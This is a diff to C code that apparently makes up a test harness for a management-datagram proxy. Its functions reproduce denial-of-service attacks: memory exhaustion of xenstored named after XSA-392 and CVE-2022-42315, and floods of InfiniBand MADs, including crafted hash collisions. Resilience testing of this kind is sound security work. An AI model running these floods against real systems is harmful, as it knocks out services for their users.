@@ -11,6 +11,8 @@
 #include <string.h>
 
 #include "base/bytes.h"
+#include "mad-proxy/core/request.h"
+#include "wire/work.h"
 
 /* How long a flood of MADs lasts at most: what it may put on the wire grows with it. */
 enum { FLOOD_MS = 5000 };
@@ -89,7 +91,7 @@ bool xsa_392_queues(struct front *f, unsigned long n)
 	return true;
 }
 
-/* As many nodes as xenstored's quota allows, as large as they may be, below the device. */
+/* As many nodes as xenstored's quota allows, four at a time, below the device. */
 bool cve_2022_42315_store_memory(struct front *f, unsigned long n)
 {
 	char key[64], value[2000];
@@ -99,7 +101,7 @@ bool cve_2022_42315_store_memory(struct front *f, unsigned long n)
 	if (!connected(f))
 		return false;
 	for (unsigned long i = 0; i < n; i++) {
-		snprintf(key, sizeof(key), "rubbish/%lu/state", i);
+		snprintf(key, sizeof(key), "rubbish/%lu/a/b/state", i);
 		if (!front_write_bytes(f, key, value, sizeof(value)))
 			break;
 		made++;
@@ -133,12 +135,14 @@ static bool flood(struct front *f, unsigned long n, struct chan_slot *slot,
 			;
 	}
 	front_ring_bell(f);
-	/* what was put in the ring and is not held is taken by then */
+	/* what was put and is not held is taken by then, and there is room for the reply to what is asked next */
 	while (now_ms() - begin < FLOOD_MS && front_untaken(f)) {
 		breathe();
 		while (front_take(f, &answer))
 			;
 	}
+	while (front_take(f, &answer))
+		;
 	printf("put %u\n", put);
 	return true;
 }
@@ -149,9 +153,13 @@ static void new_tid(struct chan_slot *slot, uint32_t i)
 	put_be32(slot->mad + 12, i);
 }
 
-/* SubnAdmGetTable(PathRecord) of all pairs (IBA 15.2.5.16): the most that one MAD can ask for. */
+/*
+ * SubnAdmGetTable(PathRecord) of all pairs (IBA 15.2.5.16): the most that one MAD can ask for. How many such
+ * requests run at a time, for how long at most, and how often each is sent, is what the gateway promises.
+ */
 static bool flood_tables(struct front *f, unsigned long n, uint32_t timeout_ms, uint8_t retries)
 {
+	const unsigned int attempts = timeout_ms * (retries + 1u) / REQUEST_ATTEMPT_MIN_MS;
 	struct chan_slot slot = request_slot(0, 0);
 	struct chan_port_info info;
 
@@ -166,6 +174,8 @@ static bool flood_tables(struct front *f, unsigned long n, uint32_t timeout_ms, 
 	slot.mad[65] = 0;
 	put_be16(slot.mad + 16, 0x35);
 	slot.mad[24] = 1; /* RMPP version */
+	printf("at_a_time %d ms %d attempts %u\n", WORK_TABLES, WORK_TABLE_MS,
+	       attempts ? attempts : 1);
 	return flood(f, n, &slot, new_tid);
 }
 
@@ -177,34 +187,6 @@ bool flood_one_way(struct front *f, unsigned long n)
 bool flood_short_tables(struct front *f, unsigned long n)
 {
 	return flood_tables(f, n, 1, 255);
-}
-
-/* SubnGet(NodeInfo) of the own port: what it is told apart by makes no difference to who answers. */
-static bool flood_smps(struct front *f, unsigned long n,
-		       void (*number)(struct chan_slot *slot, uint32_t i))
-{
-	struct chan_slot slot = request_slot(0, 0);
-
-	if (!connected(f))
-		return false;
-	slot.addr.lid = front_own_lid(f);
-	slot.addr.qpn = slot.addr.qkey = 0;
-	slot.mad[1] = 1;
-	slot.mad[65] = 0;
-	put_be16(slot.mad + 16, 0x11);
-	return flood(f, n, &slot, number);
-}
-
-/* Without a GRH there is no GID. */
-static void new_gid(struct chan_slot *slot, uint32_t i)
-{
-	new_tid(slot, i);
-	put_be32(slot->addr.gid, i);
-}
-
-bool flood_gid(struct front *f, unsigned long n)
-{
-	return flood_smps(f, n, new_gid);
 }
 
 /*
@@ -225,11 +207,21 @@ static void new_collision(struct chan_slot *slot, uint32_t i)
 		word[16 * pair + 8 + 7] = 0x80;
 		word[16 * pair + 8 + 4] = 0x04;
 	}
-	/* and beyond eight bits by the GID, of which nothing is hashed at all */
+	/* and beyond eight bits by the GID, of which there is none without a GRH */
 	put_be32(slot->addr.gid, i >> 8);
 }
 
+/* SubnGet(NodeInfo) of the own port: what it is told apart by makes no difference to who answers. */
 bool flood_collide(struct front *f, unsigned long n)
 {
-	return flood_smps(f, n, new_collision);
+	struct chan_slot slot = request_slot(0, 0);
+
+	if (!connected(f))
+		return false;
+	slot.addr.lid = front_own_lid(f);
+	slot.addr.qpn = slot.addr.qkey = 0;
+	slot.mad[1] = 1;
+	slot.mad[65] = 0;
+	put_be16(slot.mad + 16, 0x11);
+	return flood(f, n, &slot, new_collision);
 }
